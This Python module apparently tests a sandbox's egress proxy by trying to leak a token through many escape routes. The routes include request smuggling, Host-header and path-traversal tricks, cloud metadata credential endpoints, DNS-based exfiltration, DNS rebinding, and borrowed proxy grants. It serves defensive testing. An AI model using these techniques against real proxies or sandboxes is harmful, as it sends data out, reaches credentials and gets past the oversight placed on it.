"""Ways to hosts by the sandbox's own way outside. TOKEN is what a listener outside waits for."""

import base64

from door_calls import door, own_grant, passed, send


def proxy():
    return [("Proxy-Authorization", f"Bearer {own_grant()}")]


def ask(method, url, host, body=b""):
    headers = [*proxy(), ("Host", host), ("Content-Length", len(body))]
    return passed(send(f"{method} {url} HTTP/1.1", headers, body))


def tunnel(target, token, host=None, headers=None):
    """Opens a tunnel and says the word in it."""
    with door() as out:
        fields = [*(headers if headers is not None else proxy()), ("Host", host or target)]
        lines = [f"CONNECT {target} HTTP/1.1", *(f"{name}: {value}" for name, value in fields), "", ""]
        out.sendall("\r\n".join(lines).encode())
        told = out.recv(65536)
        status = int(told.split(b" ", 2)[1])
        if status != 200:
            body = told.partition(b"\r\n\r\n")[2] or out.recv(65536)
            return passed((status, body))
        out.sendall(token.encode())
        out.recv(1)
    return "said it in a tunnel"


def denied_host(denied, token):
    return ask("GET", f"http://{denied}/{token}", denied)


def denied_tunnel(denied, token):
    return tunnel(denied, token)


def denied_path(web, token):
    return ask("GET", f"http://{web}/{token}", web)


def denied_method(web, token):
    return ask("POST", f"http://{web}/ok", web, token.encode())


def lookups_over_http(denied, token):
    """As a resolver over HTTP is asked, with the word as a name."""
    query = base64.urlsafe_b64encode(token.encode()).decode()
    return ask("GET", f"http://{denied}/dns-query?dns={query}&name={token}", denied)


def path_in_other_spelling(web, token):
    return ask("GET", f"http://{web}/ok/../{token}", web)


def another_host_field(web, denied, token):
    return ask("GET", f"http://{web}/ok?{token}", denied)


def another_host_field_of_a_tunnel(tunnel_host, denied, token):
    return tunnel(tunnel_host, token, host=denied)


def second_request_behind_the_first(web, token):
    """Two requests in one piece: the second one is for a path that is not allowed."""
    second = f"GET http://{web}/{token} HTTP/1.1\r\nHost: {web}\r\nProxy-Authorization: Bearer {own_grant()}\r\n\r\n"
    first = f"GET http://{web}/ok HTTP/1.1\r\nHost: {web}\r\nProxy-Authorization: Bearer {own_grant()}\r\n\r\n"
    with door() as out:
        out.sendall((first + second).encode())
        told = b""
        while told.count(b"HTTP/1.1 ") < 2 or not told.endswith((b"}", b"ok")):
            piece = out.recv(65536)
            if not piece:
                break
            told += piece
    last = told[told.rindex(b"HTTP/1.1 "):]
    return passed((int(last.split(b" ", 2)[1]), last.partition(b"\r\n\r\n")[2]))


def huge_head(web, token):
    """More header fields than there may be, behind which a reader with less room would lose its place."""
    filler = [(f"X-{number}", "y" * 1000) for number in range(90)]
    return passed(send(f"GET http://{web}/ok?{token} HTTP/1.1", [*proxy(), ("Host", web), *filler]))


def private_address_by_name(private, token):
    return tunnel(private, token)


def private_address_by_ipv6(private6, token):
    return tunnel(private6, token)


def private_address_mapped(mapped, token):
    return tunnel(mapped, token)


def private_address_by_http(private, token):
    return ask("GET", f"http://{private}/{token}", private)


def service_of_the_host(host_service, token):
    return tunnel(host_service, token)


def metadata_address(metadata, token):
    """Where a cloud hands out its credentials, as its own tools ask for them."""
    return ask("GET", f"http://{metadata}/latest/meta-data/{token}", metadata)


def metadata_address_by_ipv6(metadata6, token):
    return tunnel(metadata6, token)


def metadata_address_by_name(metadata_name, token):
    return ask("GET", f"http://{metadata_name}/latest/meta-data/{token}", metadata_name)


def metadata_address_by_name_and_ipv6(metadata6_name, token):
    return tunnel(metadata6_name, token)


def repository_by_address(other_repository):
    host = other_repository.split("/")[2]
    told = send(f"GET {other_repository}/info/refs?service=git-upload-pack HTTP/1.1", [*proxy(), ("Host", host)])
    # Whatever the git host itself answers, it was reached.
    return "reached the git host" if told[0] == 401 else passed(told)


def tunnel_with_siblings_grant(tunnel_host, token, sibling_grant):
    return tunnel(tunnel_host, token, headers=[("Proxy-Authorization", f"Bearer {sibling_grant}")])


def tunnel_without_grant(tunnel_host, token):
    return tunnel(tunnel_host, token, headers=[])


def lookup_of_denied_name(zone, token):
    """The word is in the name: who is asked where it leads has heard it, whatever is connected to."""
    return tunnel(f"{token}.{zone}", token)


def name_that_moves(moving, token):
    """Where the name leads is asked once for the rules, and whoever asks again to connect comes to another address."""
    return tunnel(moving, token)


def name_that_has_moved(moved, token):
    """As above, by two connections: of the first one's answer nothing may be left for the second."""
    tunnel(moved, "hello")
    return tunnel(moved, token)


def name_with_two_addresses(both, token):
    """Only the forbidden one of them takes a connection."""
    return tunnel(both, token)
